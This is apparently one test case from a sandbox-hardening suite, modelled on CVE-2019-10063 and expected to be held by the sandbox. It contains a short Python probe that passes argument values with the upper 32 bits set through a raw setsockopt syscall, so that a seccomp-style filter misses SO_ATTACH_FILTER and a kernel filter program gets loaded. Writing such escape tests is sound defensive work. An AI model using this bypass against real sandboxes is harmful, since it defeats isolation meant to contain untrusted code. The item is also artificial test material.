# id: own_network_on_filter_padded
# category: network
# source: CVE-2019-10063 (a 64 bit comparison of a 32 bit argument)
# flags: --allow-network
# expect: HELD
# level: hardening
# sanity: ESCAPED
# opts: -
# setup: base world
# prelude: attack
import socket, struct
def attack():  # SO_ATTACH_FILTER with an upper half; the plain option of the socket passes
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(1, 2, 1)
    prog = ctypes.create_string_buffer(struct.pack("=HBBI", 6, 0, 0, 0xFFFF), 8)
    arg = ctypes.create_string_buffer(struct.pack("HxxxxxxQ", 1, ctypes.addressof(prog)), 16)
    sc(54, 208, s.fileno(), 1 | 1 << 32, 26 | 1 << 32, ctypes.addressof(arg), 16)
    return "loaded a program into the kernel"
run(attack)
